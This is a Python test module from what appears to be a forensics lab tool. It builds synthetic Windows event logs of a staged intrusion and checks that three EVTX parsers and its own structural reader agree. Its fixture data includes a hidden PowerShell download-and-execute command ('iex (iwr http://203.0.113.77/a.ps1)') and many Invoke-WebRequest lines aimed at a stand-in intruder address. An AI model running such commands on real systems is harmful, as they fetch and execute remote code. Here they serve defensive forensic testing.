"""Generated EVTX files against three independent parsers, an independent structural reader and real logs.

Every generated file is read by python-evtx (pure Python), libevtx (libyal's C library, ``pyevtx``) and the
Rust ``evtx`` crate (``PyEvtxParser``); each must return the same records (record id, written time, event id,
provider, channel, computer, creation time and every EventData/UserData field) as the events that went in, in
their XML views and, where offered, JSON. The structural reader below is this test's own: it walks chunks,
records and BinXml tokens, checks CRCs, name hashes and both hash tables, and is run on the real third-party
logs in ``../shared/samples/windows/evtx`` too, so the rules it checks are Windows' rules, not the writer's.
"""

from __future__ import annotations

import base64
import json
import re
import struct
import uuid
import warnings
import xml.etree.ElementTree as ET
import zlib
from collections import Counter
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import NoReturn

import evtx as rust_evtx
import Evtx.Evtx as python_evtx
import pyevtx
import pytest

from dflab.errors import DflabError
from dflab.evidence.windows.evtx import values as v
from dflab.evidence.windows.evtx.events import (
    SECURITY_AUDITING,
    Execution,
    LogCleared,
    Logon,
    Machine,
    ProcessCreated,
    ScriptBlock,
    ServiceInstalled,
    build_logs,
)
from dflab.evidence.windows.evtx.lifecycle import admin_logon, logoff, security_shutdown
from dflab.evidence.windows.evtx.log import ClassicData, EventData, EventLog
from dflab.evidence.windows.evtx.routine import Uptime, uptime_events
from tests.samples import sample

# One worker builds the logs and walks the real ones once (``--dist loadgroup``).
pytestmark = pytest.mark.xdist_group("windows_evtx")

REAL_LOGS = ("Security.evtx", "Security_1102-single-record.evtx", "System.evtx", "Sysmon-Operational.evtx",
             "PowerShell-Operational_4104.evtx")
EVENT_NS = "{http://schemas.microsoft.com/win/2004/08/events/event}"
HEX_TYPES = {v.HEX_INT32, v.HEX_INT64}
INT_TYPES = {v.UINT8, v.UINT16, v.UINT32, v.UINT64, v.INT32}
T0 = datetime(2026, 3, 2, 8, 15, 4, 250_731, tzinfo=UTC)
INTRUDER = "203.0.113.77"
USER_SID = "S-1-5-21-3623811015-3361044348-30300820-1001"
MACHINE = Machine("DESKTOP-7QK2M4L", "WORKGROUP", lsass=Execution(684, 712), kernel=Execution(4, 9412),
                  eventlog=Execution(1296, 5508), services=Execution(668, 3872))


def case_events() -> list:
    """A small intrusion plus enough routine logons that the Security log needs several chunks."""
    routine = [Logon(T0 - timedelta(days=30) + timedelta(hours=9 * n, microseconds=n), 2, "maria", USER_SID,
                     0x2F000 + n) for n in range(170)]
    script = "".join(f"$part{n} = 'Invoke-WebRequest http://{INTRUDER}/s{n}.ps1'\n" for n in range(600))
    return routine + [
        Logon(T0 - timedelta(days=31), 2, "maria", USER_SID, 0x1F001),  # before the clear: gone from the file
        LogCleared(T0 - timedelta(days=30, hours=1), "maria", USER_SID, 0x1F001),
        Logon(T0, 10, "maria", USER_SID, 0x5B9A0D, ip_address=INTRUDER, ip_port=51544, workstation="KALI",
              elevated=True),
        ProcessCreated(T0 + timedelta(seconds=41), 0x1A2C, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                       "powershell.exe -nop -w hidden -c \"iex (iwr http://203.0.113.77/a.ps1)\"", 0x1BF0,
                       r"C:\Windows\explorer.exe", "maria", USER_SID, 0x5B9A0D),
        ScriptBlock(T0 + timedelta(seconds=42), "iex (iwr http://203.0.113.77/a.ps1)",
                    "6f1b7f43-3a7e-4c1e-9b0e-0d2f6c3b8a11", USER_SID, 6700, 6712, warning=True,
                    activity_id="cf705cdf-21a7-0001-5591-74cfa721d301"),
        ScriptBlock(T0 + timedelta(seconds=43), script, "9d3c2a18-55b4-4f60-8f7e-1c2d3e4f5a6b", USER_SID, 6700,
                    6712, path=r"C:\Users\maria\AppData\Local\Temp\s.ps1"),
        ServiceInstalled(T0 + timedelta(minutes=3), "WinUpdSvc", r"C:\ProgramData\WinUpd\updsvc.exe",
                         user_sid=USER_SID),
    ]


@pytest.fixture(scope="module")
def generated(tmp_path_factory) -> dict[str, tuple[Path, EventLog]]:
    folder = tmp_path_factory.mktemp("evtx")
    out = {}
    for name, log in build_logs(MACHINE, case_events()).items():
        log.write(folder / name)
        out[name] = (folder / name, log)
    return out


# --- what went in ------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Rec:
    """One record as a parser (or the input) tells it, in comparable form."""

    record_id: int
    written: int  # FILETIME
    created: int  # FILETIME
    event_id: int
    provider: str
    channel: str
    computer: str
    data: tuple[tuple[str, object], ...]


def canonical(kind: int, shown: object, binary=bytes.fromhex) -> object:
    """A parser's rendering of a value of type ``kind`` in one form: ints as int, GUIDs as UUID, times as FILETIME.

    ``binary`` decodes Binary values: libevtx and Rust print hex, python-evtx base64.
    """
    if shown is None:
        shown = ""
    if kind == v.STRING_ARRAY:
        return tuple(shown)
    if isinstance(shown, int) and kind not in HEX_TYPES:
        return shown
    text = str(shown).rstrip("\0")
    if kind == v.BINARY:
        return binary(text)
    if kind == v.FILETIME_TYPE:
        return filetime_of(text)
    if kind in HEX_TYPES:
        return int(text, 16)
    if kind in INT_TYPES:
        return int(text)
    if kind == v.GUID_TYPE:
        return uuid.UUID(text.strip("{}"))
    return text


def decoded(value: v.Value) -> object:
    """The input value, decoded from its bytes by this test (not by the writer's encoder)."""
    data, kind = value.data, value.type
    if kind == v.STRING:
        return xml_line_ends(data.decode("utf-16-le").rstrip("\0"))
    if kind in HEX_TYPES or kind in INT_TYPES - {v.INT32}:
        return int.from_bytes(data, "little")
    if kind == v.INT32:
        return struct.unpack("<i", data)[0]
    if kind == v.FILETIME_TYPE:
        return struct.unpack("<Q", data)[0]
    if kind == v.BINARY:
        return data
    if kind == v.GUID_TYPE:
        return uuid.UUID(bytes_le=data)
    if kind == v.SID_TYPE:
        authority = int.from_bytes(data[2:8], "big")
        subs = struct.unpack_from(f"<{data[1]}I", data, 8)
        return "-".join(["S", str(data[0]), str(authority), *map(str, subs)])
    raise AssertionError(f"no decoder for type {kind:#x}")


def expected(log: EventLog) -> list[Rec]:
    out = []
    for ordinal, event in enumerate(log.events):
        moment = v.filetime(event.time)
        if isinstance(event.payload, ClassicData):  # absent strings read as none, an absent binary as empty
            data = (("Data", tuple(event.payload.strings or ())), ("Binary", event.payload.binary or b""))
        else:
            data = tuple((name, decoded(value)) for name, value in event.payload.fields)
            if getattr(event.payload, "binary", None) is not None:
                data += (("Binary", event.payload.binary),)
        out.append(Rec(log.first_record_id + ordinal, moment, moment, event.event_id, event.provider.name,
                       log.channel, event.computer, data))
    return out


def types_of(log: EventLog) -> dict[str, int]:
    kinds = {name: value.type for event in log.events for name, value in event.payload.fields
             if value.type != v.NULL}
    if any(getattr(event.payload, "binary", None) is not None for event in log.events):
        kinds["Binary"] = v.BINARY
    return kinds


# --- the three parsers -----------------------------------------------------------------------------------------


def payload_from_xml(event: ET.Element) -> list[tuple[str, str]]:
    """EventData's Data by Name, or UserData's one element's children by tag."""
    data = event.find(f"{EVENT_NS}EventData")
    if data is not None and len(data) and all(item.get("Name") is None for item in data):
        return classic_from_xml(data)
    if data is not None:  # named Data, and the Binary a classic-keyword event carries after them (7036)
        return [("Binary" if item.tag == f"{EVENT_NS}Binary" else item.get("Name"), item.text or "") for item in data]
    user = event.find(f"{EVENT_NS}UserData")
    assert user is not None and len(user) == 1, "neither EventData nor UserData"
    return [(item.tag.rsplit("}", 1)[-1], item.text or "") for item in user[0]]


def classic_from_xml(data: ET.Element) -> list[tuple[str, object]]:
    """A classic event's unnamed ``<Data>`` (its strings) and ``<Binary>``, each parser's way in one form:
    libevtx and Rust write one ``<Data>`` per string, python-evtx one holding ``<string>…</string>`` escaped."""
    strings: list[str] = []
    binary = ""
    for item in data:
        text = item.text or ""
        if item.tag.endswith("Binary"):
            binary = text.strip()
        elif "<string>" in text:
            strings += re.findall(r"<string>(.*?)</string>", text, re.S)
        else:
            strings.append(text.strip())  # Rust indents an empty element's text
    return [("Data", tuple(strings) if strings != [""] else ()), ("Binary", binary)]


def system_from_xml(event: ET.Element) -> dict[str, str]:
    system = event.find(f"{EVENT_NS}System")
    return {
        "event_id": system.findtext(f"{EVENT_NS}EventID"), "record_id": system.findtext(f"{EVENT_NS}EventRecordID"),
        "provider": system.find(f"{EVENT_NS}Provider").get("Name"), "channel": system.findtext(f"{EVENT_NS}Channel"),
        "computer": system.findtext(f"{EVENT_NS}Computer"),
        "created": system.find(f"{EVENT_NS}TimeCreated").get("SystemTime"),
    }


def filetime_of(text: str) -> int:
    """An ISO time some parser printed (``Z`` or ``+00:00``, up to 9 fraction digits) as a FILETIME."""
    text = text.replace(" UTC", "").replace("Z", "").replace("T", " ").split("+")[0]
    whole, _, fraction = text.partition(".")
    base = v.filetime(datetime.fromisoformat(whole).replace(tzinfo=UTC))
    return base + int((fraction + "0000000")[:7])


def rec_from_xml(xml: str, record_id: int, written: int, kinds: dict[str, int], binary=bytes.fromhex) -> Rec:
    event = ET.fromstring(xml)
    system = system_from_xml(event)
    assert int(system["record_id"]) == record_id, "EventRecordID differs from the record header's id"
    data = tuple((name, canonical(kinds.get(name, v.STRING), text, binary))
                 for name, text in payload_from_xml(event))
    return Rec(record_id, written, filetime_of(system["created"]), int(system["event_id"]), system["provider"],
               system["channel"], system["computer"], data)


def read_python_evtx(path: Path, kinds: dict[str, int]) -> list[Rec]:
    out = []
    with python_evtx.Evtx(str(path)) as log:
        header = log.get_file_header()
        assert header.verify(), "python-evtx: file header check (magic, version, CRC) failed"
        assert not header.is_dirty() and not header.is_full()
        for chunk in header.chunks():
            assert chunk.verify(), f"python-evtx: chunk at {chunk.offset()} fails its CRC checks"
        for record in log.records():
            # python-evtx 0.8.1 turns FILETIMEs into datetimes through a float (BinaryParser.parse_filetime), which
            # may print SystemTime a few microseconds off; the values it parsed are exact, so compare those.
            written = record.unpack_qword(0x10)
            parsed = rec_from_xml(record.xml(), record.record_num(), written, kinds, binary=base64.b64decode)
            created = record.root().substitutions()[6].unpack_qword(0)
            assert abs(parsed.created - created) <= 100, "python-evtx: printed SystemTime far from its FILETIME"
            out.append(replace(parsed, created=created))
    return out


def xml_line_ends(text: str | None) -> str | None:
    """A string as an XML parser hands it back: CR LF read as LF (4672's PrivilegeList holds CR LF TAB TAB TAB)."""
    return text.replace("\r\n", "\n") if text else text


def read_libevtx(path: Path, kinds: dict[str, int]) -> list[Rec]:
    log = pyevtx.file()
    log.open(str(path))
    try:
        assert not log.is_corrupted(), "libevtx: file marked corrupted (a CRC or structure check failed)"
        assert log.number_of_recovered_records == 0
        out = []
        for record in log.records:
            from_xml = rec_from_xml(record.xml_string, record.identifier, record.get_written_time_as_integer(), kinds)
            if [name for name, _ in from_xml.data] != ["Data", "Binary"]:  # a classic event's are its own
                strings = [canonical(kinds.get(name, v.STRING), xml_line_ends(record.get_string(index)))
                           for index, (name, _) in enumerate(from_xml.data)]
                assert record.number_of_strings == len(from_xml.data)
                assert strings == [value for _, value in from_xml.data], "libevtx: strings differ from its XML"
            assert record.event_identifier == from_xml.event_id and record.source_name == from_xml.provider
            assert record.channel_name == from_xml.channel and record.computer_name == from_xml.computer
            assert record.get_creation_time_as_integer() == from_xml.created
            out.append(from_xml)
        return out
    finally:
        log.close()


def rust_json_rec(entry: dict, kinds: dict[str, int]) -> Rec:
    event = json.loads(entry["data"])["Event"]
    system = event["System"]
    event_id = system["EventID"]
    if isinstance(event_id, dict):  # with Qualifiers: {"#attributes": {...}, "#text": 7045}
        event_id = event_id["#text"]
    if isinstance(event.get("EventData"), dict) and isinstance(event["EventData"].get("Data"), dict):  # classic
        shown = event["EventData"]["Data"]["#text"]
        strings = tuple(shown) if isinstance(shown, list) else (shown,) if shown else ()
        payload = {"Data": strings, "Binary": event["EventData"]["Binary"] or ""}
    elif "EventData" in event:
        payload = event["EventData"] or {}  # an empty EventData (PowerShell's 40961) is null
    else:
        (payload,) = event["UserData"].values()
    fields = tuple((name, canonical(kinds.get(name, v.STRING), xml_line_ends(value) if isinstance(value, str)
                                    else value)) for name, value in payload.items() if name != "#attributes")
    return Rec(entry["event_record_id"], filetime_of(entry["timestamp"]),
               filetime_of(system["TimeCreated"]["#attributes"]["SystemTime"]), int(event_id),
               system["Provider"]["#attributes"]["Name"], system["Channel"], system["Computer"], fields)


def read_rust(path: Path, kinds: dict[str, int]) -> list[Rec]:
    as_json = [rust_json_rec(entry, kinds)
               for entry in rust_evtx.PyEvtxParser(str(path), validate_checksums=True).records_json()]
    as_xml = [rec_from_xml(entry["data"], entry["event_record_id"], filetime_of(entry["timestamp"]), kinds)
              for entry in rust_evtx.PyEvtxParser(str(path), validate_checksums=True).records()]
    assert as_json == as_xml, "the Rust parser's JSON and XML views differ"
    return as_json


def assert_read_identically(path: Path, log: EventLog) -> None:
    """All three parsers return exactly the records that went in."""
    want = expected(log)
    kinds = types_of(log)
    for name, got in (("python-evtx", read_python_evtx(path, kinds)), ("libevtx", read_libevtx(path, kinds)),
                      ("evtx (Rust)", read_rust(path, kinds))):
        assert len(got) == len(want), f"{name}: {len(got)} records, {len(want)} written"
        for mine, theirs in zip(want, got, strict=True):
            assert theirs == mine, f"{name} reads record {mine.record_id} differently:\n{theirs}\n!=\n{mine}"


# --- an independent structural reader ----------------------------------------------------------------------


def name_hash(name: str) -> int:
    """The string table's hash, written out here again so the reader does not borrow the writer's."""
    value = 0
    for unit in struct.unpack(f"<{len(name.encode('utf-16-le')) // 2}H", name.encode("utf-16-le")):
        value = (value * 65599 + unit) % 2**32
    return value % 2**16


@dataclass
class ChunkFacts:
    tokens: Counter = field(default_factory=Counter)  # every BinXml token byte seen (flags included)
    value_types: Counter = field(default_factory=Counter)
    strings: dict[int, str] = field(default_factory=dict)
    templates: dict[int, uuid.UUID] = field(default_factory=dict)
    template_buckets: dict[int, int] = field(default_factory=dict)
    records: list[dict] = field(default_factory=list)


class StructureError(AssertionError):
    """What the structural reader found out of place (an AssertionError, so pytest reports it as a failure)."""


class ChunkWalker:
    """Walks one chunk as [MS-EVEN6] and libyal's format notes describe it, failing on anything out of place."""

    def __init__(self, chunk: bytes, strict_types: bool) -> None:
        self.chunk = chunk
        self.strict = strict_types
        self.facts = ChunkFacts()
        self.shapes: dict[int, list] = {}

    def fail(self, what: str) -> NoReturn:
        raise StructureError(what)

    def walk(self) -> ChunkFacts:
        c = self.chunk
        (magic, first_no, last_no, first_id, last_id, header_size, last_offset, free,
         data_crc) = struct.unpack_from("<8sQQQQIIII", c, 0)
        if magic != b"ElfChnk\0" or header_size != 128:
            self.fail("chunk magic or header size")
        if struct.unpack_from("<I", c, 124)[0] != zlib.crc32(c[:120] + c[128:512]):
            self.fail("chunk header CRC32")
        if data_crc != zlib.crc32(c[512:free]):
            self.fail("chunk event records CRC32")
        offset, ids = 512, []
        while offset < free:
            if c[offset:offset + 4] != b"**\0\0":
                self.fail(f"no record magic at {offset}")
            size, record_id = struct.unpack_from("<IQ", c, offset + 4)
            if size % 8 or struct.unpack_from("<I", c, offset + size - 4)[0] != size or offset + size > free:
                self.fail(f"record at {offset}: size {size} not aligned or not copied at its end")
            end, shape, fields = self.fragment(offset + 24)
            if end > offset + size - 4:
                self.fail(f"record at {offset}: BinXml runs past the record")
            ids.append(record_id)
            self.facts.records.append({"offset": offset, "size": size, "record_id": record_id, "shape": shape,
                                       "fields": fields})
            last_seen, offset = offset, offset + size
        if offset != free or last_seen != last_offset:
            self.fail("free space or last record offset do not match the records")
        if ids != list(range(first_id, last_id + 1)) or last_no - first_no != len(ids) - 1:
            self.fail("record ids or numbers do not match the chunk header")
        self.tables()
        return self.facts

    def tables(self) -> None:
        seen = set()
        for bucket, head in enumerate(struct.unpack_from("<64I", self.chunk, 128)):
            while head:
                if head not in self.facts.strings or head in seen:
                    self.fail(f"string table bucket {bucket} points at {head}, not a name defined here")
                if name_hash(self.facts.strings[head]) % 64 != bucket:
                    self.fail(f"name {self.facts.strings[head]!r} in the wrong string bucket {bucket}")
                seen.add(head)
                head = struct.unpack_from("<I", self.chunk, head)[0]
        if seen != set(self.facts.strings):
            self.fail("names defined in the chunk but not reachable from its string table")
        seen = set()
        for bucket, head in enumerate(struct.unpack_from("<32I", self.chunk, 384)):
            while head:
                if head not in self.facts.templates or head in seen:
                    self.fail(f"template table bucket {bucket} points at {head}, not a template defined here")
                self.facts.template_buckets[head] = bucket
                seen.add(head)
                head = struct.unpack_from("<I", self.chunk, head)[0]
        if seen != set(self.facts.templates):
            self.fail("templates defined in the chunk but not reachable from its template table")

    def name(self, at: int) -> tuple[str, int]:
        offset = struct.unpack_from("<I", self.chunk, at)[0]
        at += 4
        if offset == at:
            digest, count = struct.unpack_from("<HH", self.chunk, at + 4)
            text = self.chunk[at + 8:at + 8 + 2 * count].decode("utf-16-le")
            if digest != name_hash(text) or self.chunk[at + 8 + 2 * count:at + 10 + 2 * count] != b"\0\0":
                self.fail(f"name {text!r}: hash {digest:#x} is not its hash, or no NUL")
            self.facts.strings[offset] = text
            return text, at + 10 + 2 * count
        if offset not in self.facts.strings:
            self.fail(f"name offset {offset} points at no name defined earlier in the chunk")
        return self.facts.strings[offset], at

    def fragment(self, at: int, nested: bool = False) -> tuple[int, list, list]:
        """A fragment holding one template instance: (end, its tokens, its payload's fields).

        A nested one (a BinXml value) may lack the fragment header: Windows writes both forms.
        """
        if self.chunk[at:at + 4] == b"\x0f\x01\x01\x00":
            self.facts.tokens[0x0F] += 1
            at += 4
        elif not nested:
            self.fail(f"no BinXml fragment header at {at}")
        if self.chunk[at] != 0x0C:
            self.fail(f"fragment at {at} is not a template instance")
        at, shape, fields = self.instance(at)
        if self.chunk[at] != 0x00:
            self.fail(f"fragment does not end with EOF at {at}")
        self.facts.tokens[0x00] += 1
        return at + 1, shape, fields

    def instance(self, at: int) -> tuple[int, list, list]:
        """(end, template tokens with the event id filled in, (name, type) of the payload's fields)."""
        c = self.chunk
        self.facts.tokens[0x0C] += 1
        template_id, definition = struct.unpack_from("<II", c, at + 2)
        at += 10
        if definition == at:
            guid = uuid.UUID(bytes_le=c[at + 4:at + 20])
            size = struct.unpack_from("<I", c, at + 20)[0]
            if int.from_bytes(guid.bytes_le[:4], "little") != template_id:
                self.fail(f"template at {definition}: id {template_id:#x} is not its GUID's first four bytes")
            self.facts.templates[definition] = guid
            end, self.shapes[definition] = self.tokens(at + 24)
            if end != at + 24 + size:
                self.fail(f"template at {definition}: declared {size} bytes, tokens take {end - at - 24}")
            at = end
        elif definition not in self.facts.templates:
            self.fail(f"template instance at {at - 10} refers to {definition}, not a template defined earlier")
        shape = self.shapes[definition]
        count = struct.unpack_from("<I", c, at)[0]
        descriptors = [struct.unpack_from("<HBB", c, at + 4 + 4 * i) for i in range(count)]
        at += 4 + 4 * count
        subs = {token[1]: token[2] for token in shape if token[0] == "sub"}
        if subs and max(subs) >= count:
            self.fail(f"template uses substitution {max(subs)}, the instance has {count}")
        payload, values = [], {}
        for index, (size, kind, _) in enumerate(descriptors):
            self.facts.value_types[kind] += 1
            if self.strict and index in subs and kind not in (subs[index], v.NULL):
                self.fail(f"value {index} has type {kind:#x}, the template says {subs[index]:#x}")
            if kind == v.BINXML:
                end, _, payload = self.fragment(at, nested=True)
                if end != at + size:
                    self.fail(f"nested BinXml value {index} is not {size} bytes")
            values[index] = (kind, c[at:at + size])
            at += size
        own = [(name, descriptors[index][1]) for name, index in self.fields_of(shape)]
        return at, [self.with_values(token, values) for token in shape], payload or own

    @staticmethod
    def with_values(token: tuple, values: dict) -> tuple:
        """The event id (substitution 3) is what makes two System shapes of different events comparable."""
        if token[0] == "sub" and token[1] == 3 and values.get(3, (0,))[0] == v.UINT16:
            return (*token, struct.unpack("<H", values[3][1])[0])
        return token

    @staticmethod
    def fields_of(shape: list) -> list[tuple[str, int]]:
        """(Data Name or element name, substitution index) for every substitution in element content."""
        stack, fields, pending = [], [], None
        for token in shape:
            if token[0] == "open":
                stack.append([token[1], None])
            elif token[0] == "attr":
                pending = token[1]
            elif token[0] == "text" and pending == "Name" and stack:
                stack[-1][1] = token[1]
            elif token[0] in ("close_start",):
                pending = None
            elif token[0] == "sub" and pending is None and stack:
                fields.append((stack[-1][1] or stack[-1][0], token[1]))
            elif token[0] in ("close_empty", "end") and stack:
                stack.pop()
                pending = None
        return fields

    def tokens(self, at: int) -> tuple[int, list]:
        """A template body's tokens up to its EOF: (end, the tokens as tuples)."""
        c, shape, depth = self.chunk, [], 0
        if c[at:at + 4] != b"\x0f\x01\x01\x00":
            self.fail(f"template body at {at} has no fragment header")
        self.facts.tokens[0x0F] += 1
        at += 4
        while True:
            token = c[at]
            self.facts.tokens[token] += 1
            base = token & 0xBF
            if base == 0x00:
                if depth:
                    self.fail(f"EOF at {at} inside {depth} open elements")
                return at + 1, shape
            if base == 0x01:
                dependency, size = struct.unpack_from("<hI", c, at + 1)
                name, after = self.name(at + 7)
                if token & 0x40:
                    after += 4
                shape.append(("open", name, dependency))
                depth += 1
                at = after
            elif base == 0x06:
                name, at = self.name(at + 1)
                shape.append(("attr", name))
            elif base == 0x05:
                count = struct.unpack_from("<H", c, at + 2)[0]
                shape.append(("text", c[at + 4:at + 4 + 2 * count].decode("utf-16-le")))
                at += 4 + 2 * count
            elif base in (0x0D, 0x0E):
                index, kind = struct.unpack_from("<HB", c, at + 1)
                shape.append(("sub", index, kind, base == 0x0E))
                at += 4
            elif base == 0x02:
                shape.append(("close_start",))
                at += 1
            elif base in (0x03, 0x04):
                shape.append(("close_empty",) if base == 0x03 else ("end",))
                depth -= 1
                at += 1
            else:
                self.fail(f"unexpected BinXml token {token:#x} at {at}")


def walk_file(data: bytes, strict_types: bool = True, header_must_count: bool = True) -> list[ChunkFacts]:
    if data[:8] != b"ElfFile\0" or struct.unpack_from("<I", data, 124)[0] != zlib.crc32(data[:120]):
        raise StructureError("file magic or header CRC32")
    header_size, minor, major, block, count = struct.unpack_from("<IHHHH", data, 32)
    if (header_size, minor, major, block) != (128, 1, 3, 4096):
        raise StructureError("file header is not version 3.1 with 128/4096-byte header")
    chunks = [data[at:at + 0x10000] for at in range(4096, len(data), 0x10000)]
    used = [chunk for chunk in chunks if chunk[:8] == b"ElfChnk\0"]
    if header_must_count and len(used) != count:
        raise StructureError(f"header counts {count} chunks, {len(used)} are in the file")
    return [ChunkWalker(chunk, strict_types).walk() for chunk in used]


# --- tests on generated logs ---------------------------------------------------------------------------------


def test_the_case_fills_the_logs_item_4_names(generated):
    assert sorted(generated) == ["Microsoft-Windows-PowerShell%4Operational.evtx", "Security.evtx", "System.evtx"]
    security = generated["Security.evtx"][1]
    assert Counter(event.event_id for event in security.events) == {4624: 171, 4688: 1, 1102: 1}
    assert security.events[0].event_id == 1102 and security.first_record_id == 2  # the older logon was cleared
    types = {dict(event.payload.fields)["LogonType"].data for event in security.events if event.event_id == 4624}
    assert types == {(2).to_bytes(4, "little"), (10).to_bytes(4, "little")}
    powershell = generated["Microsoft-Windows-PowerShell%4Operational.evtx"][1]
    parts = -(-len(case_events()[-2].text) // 10_000)
    assert parts >= 3
    assert [decoded(dict(e.payload.fields)["MessageTotal"]) for e in powershell.events] == [1] + [parts] * parts
    assert "".join(decoded(dict(e.payload.fields)["ScriptBlockText"]) for e in powershell.events[1:]) == \
        case_events()[-2].text
    assert len(generated["Security.evtx"][0].read_bytes()) == 4096 + 3 * 0x10000  # spans several chunks


@pytest.mark.parametrize("name", ["Security.evtx", "System.evtx", "Microsoft-Windows-PowerShell%4Operational.evtx"])
def test_three_parsers_read_every_record_identically(generated, name):
    path, log = generated[name]
    assert_read_identically(path, log)


def test_the_intruders_logon_reads_as_windows_writes_it(generated):
    path, log = generated["Security.evtx"]
    remote = [rec for rec in read_libevtx(path, types_of(log)) if dict(rec.data).get("LogonType") == 10]
    assert len(remote) == 1
    fields = dict(remote[0].data)
    assert fields["IpAddress"] == INTRUDER and fields["IpPort"] == "51544" and fields["WorkstationName"] == "KALI"
    assert fields["TargetUserSid"] == USER_SID and fields["TargetLogonId"] == 0x5B9A0D
    assert fields["LogonProcessName"] == "User32 " and fields["AuthenticationPackageName"] == "Negotiate"
    assert remote[0].provider == "Microsoft-Windows-Security-Auditing" and remote[0].computer == MACHINE.computer


def test_crcs_verified_independently_and_by_the_parsers_that_check_them(generated):
    for path, _ in generated.values():
        data = path.read_bytes()
        facts = walk_file(data)
        assert struct.unpack_from("<Q", data, 24)[0] == facts[-1].records[-1]["record_id"] + 1  # next record id
        assert struct.unpack_from("<I", data, 120)[0] == 0  # clean: not dirty, not full
        # python-evtx's verify() and libevtx's is_corrupted() run inside the readers; Rust validates CRCs here.
        assert sum(1 for _ in rust_evtx.PyEvtxParser(str(path), validate_checksums=True).records()) == \
            sum(len(chunk.records) for chunk in facts)


def test_templates_are_shared_by_records_of_one_shape_and_defined_once_per_chunk(generated):
    facts = walk_file(generated["Security.evtx"][0].read_bytes())
    assert len(facts) == 3
    for chunk in facts:
        # System (manifest), System (classic, for 1102), EventData of 4624, of 4688, UserData of 1102, at most
        assert 2 <= len(chunk.templates) <= 5
        assert len(chunk.records) > 2 * len(chunk.templates)
        for offset, guid in chunk.templates.items():
            assert chunk.template_buckets[offset] == int.from_bytes(guid.bytes_le[:4], "little") % 32
    assert facts[0].templates.keys() & facts[1].templates.keys()  # same offsets: each chunk defines its own


def test_same_events_give_the_same_bytes_and_a_changed_event_changes_them():
    first = {name: log.to_bytes() for name, log in build_logs(MACHINE, case_events()).items()}
    second = {name: log.to_bytes() for name, log in build_logs(MACHINE, list(reversed(case_events()))).items()}
    assert first == second
    changed = case_events()
    changed[-1] = replace(changed[-1], image_path=r"C:\ProgramData\WinUpd\updsvc2.exe")
    third = {name: log.to_bytes() for name, log in build_logs(MACHINE, changed).items()}
    assert third["System.evtx"] != first["System.evtx"] and third["Security.evtx"] == first["Security.evtx"]


def test_every_value_type_reads_the_same_in_all_three_parsers(tmp_path):
    moment = T0 + timedelta(microseconds=7)
    fields = (("Text", v.string("x\u00e9\u4e2d")), ("UInt8", v.uint8(200)), ("UInt16", v.uint16(65000)),
              ("UInt32", v.uint32(4_000_000_000)), ("UInt64", v.uint64(2**63 + 5)),
              # positive only: libevtx 20260705 prints a negative Int32 wrongly (-7 as -2147483641)
              ("Int32", v.int32(7)), ("HexInt32", v.hex_int32(0xC000006D)), ("HexInt64", v.hex_int64(2**40 + 1)),
              ("FileTime", v.filetime_value(moment)), ("Sid", v.sid("S-1-5-32-544")),
              ("Guid", v.guid("6f1b7f43-3a7e-4c1e-9b0e-0d2f6c3b8a11")), ("Binary", v.binary(b"\x00\x01\xab\xff")),
              ("Empty", v.string("")))
    log = EventLog("Application", first_record_id=41)
    log.event(SECURITY_AUDITING, 1000, version=0, level=4, task=0, opcode=0, keywords=0, time=T0,
              payload=EventData(fields), computer="X", user_sid=None, process_id=1, thread_id=2)
    path = tmp_path / "types.evtx"
    log.write(path)
    kinds = types_of(log)
    (want,) = expected(log)
    (python,) = read_python_evtx(path, kinds)
    exact = dict(want.data)["FileTime"]
    assert abs(dict(python.data)["FileTime"] - exact) <= 100  # python-evtx's float conversion, as for SystemTime
    python = replace(python, data=tuple((n, exact if n == "FileTime" else x) for n, x in python.data))
    assert python == want
    assert read_libevtx(path, kinds) == [want]
    assert read_rust(path, kinds) == [want]
    with pytest.raises(DflabError, match="Null in a normal substitution"):
        EventLog("Application", events=[replace(log.events[0], payload=EventData((("N", v.null()),)))]).to_bytes()


def test_a_users_mistakes_are_one_line_errors():
    with pytest.raises(DflabError, match="time zone"):
        build_logs(MACHINE, [replace(case_events()[-1], time=datetime(2026, 3, 2, 8, 0))])
    with pytest.raises(DflabError, match="ScriptBlock at .*: badly formed"):
        build_logs(MACHINE, [replace(case_events()[-2], script_block_id="not-a-guid")])
    with pytest.raises(DflabError, match="not a SID"):
        build_logs(MACHINE, [replace(case_events()[-1], user_sid="S-1-x")])["System.evtx"].to_bytes()
    huge = EventLog("Application")
    huge.event(build_logs(MACHINE, case_events())["System.evtx"].events[0].provider, 1, version=0, level=4, task=0,
               opcode=0, keywords=0, time=T0, payload=EventData((("Blob", v.binary(bytes(70_000))),)),
               computer="X", user_sid=None, process_id=1, thread_id=1)
    with pytest.raises(DflabError, match="more than a record holds"):
        huge.to_bytes()


def _chunk_crcs(data: bytearray, chunk_at: int) -> None:
    """Recompute a chunk's CRCs, so that a planted defect is only the defect (not also a CRC mismatch)."""
    free = struct.unpack_from("<I", data, chunk_at + 48)[0]
    struct.pack_into("<I", data, chunk_at + 52, zlib.crc32(data[chunk_at + 512:chunk_at + free]))
    struct.pack_into("<I", data, chunk_at + 124,
                     zlib.crc32(data[chunk_at:chunk_at + 120] + data[chunk_at + 128:chunk_at + 512]))


def test_a_bad_chunk_crc_is_caught_by_every_check(generated, tmp_path):
    path, log = generated["System.evtx"]
    data = bytearray(path.read_bytes())
    at = data.find("updsvc".encode("utf-16-le"))
    data[at] ^= 0x20  # one letter's case: still valid BinXml, but no longer the bytes the CRC was taken of
    bad = tmp_path / "bad.evtx"
    bad.write_bytes(bytes(data))
    with pytest.raises(StructureError, match="event records CRC32"):
        walk_file(bytes(data))
    with pytest.raises(AssertionError, match="python-evtx: chunk .* fails its CRC"):
        read_python_evtx(bad, types_of(log))
    with pytest.raises(AssertionError, match="libevtx: file marked corrupted"):
        read_libevtx(bad, types_of(log))
    with pytest.raises(RuntimeError, match="CRC32"):
        read_rust(bad, types_of(log))


def test_a_wrong_template_offset_is_caught_by_the_structure_and_the_parsers(generated, tmp_path):
    path, log = generated["Security.evtx"]
    data = bytearray(path.read_bytes())
    chunk = 4096
    reuse = walk_file(bytes(data))[0].records[2]["offset"]  # record 3: a 4624 using record 2's System template
    defined = struct.unpack_from("<I", data, chunk + reuse + 34)[0]
    assert data[chunk + reuse + 28] == 0x0C and defined != reuse + 38
    struct.pack_into("<I", data, chunk + reuse + 34, defined + 4)  # now points 4 bytes into that template
